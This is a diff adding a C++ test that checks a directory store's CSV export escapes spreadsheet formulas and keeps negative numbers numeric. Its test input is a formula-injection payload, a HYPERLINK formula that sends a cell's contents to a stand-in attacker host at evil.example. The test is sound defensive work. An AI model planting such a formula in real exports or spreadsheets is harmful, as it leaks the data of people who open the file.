@@ -235,6 +235,26 @@ Json same_warm_space_from_another_feed(const std::string& id, const std::string&
                                                                              {"country", "GB"}}})}}}}})}}});
 }
 
+TEST_P(DirectoryStoreTest, TheCsvExportCarriesNoFormulaAndKeepsNumbersAsNumbers) {
+  const std::string formula = "=HYPERLINK(\"http://evil.example/?d=\"&A2,\"Click\")";
+  auto report = import(same_warm_space_from_another_feed("formula-feed-1", formula));
+  ASSERT_TRUE(report.problems.empty());
+  std::ostringstream csv;
+  directory::export_csv(db(), csv);  // what `kith export directory --format csv` writes
+  std::istringstream in(csv.str());
+  CsvReader reader(in);
+  auto header = reader.header();
+  std::vector<std::string> row;
+  int rows = 0;
+  while (reader.next(row)) {
+    ++rows;
+    for (const auto& cell : row) EXPECT_FALSE(csv_formula(cell)) << cell;
+    EXPECT_EQ(row[header["name"]], "'" + formula);
+    EXPECT_EQ(row[header["longitude"]].substr(0, 2), "-1");  // a negative number, still a number
+  }
+  EXPECT_EQ(rows, 1);
+}
+
 TEST_P(DirectoryStoreTest, AnotherFeedListingTheSameServiceUpdatesItByNameAndPostcode) {
   import(directory::demo_feed());
   auto r = import(same_warm_space_from_another_feed("hub-sheet-1", "  tuesday warm SPACE (demo) "));
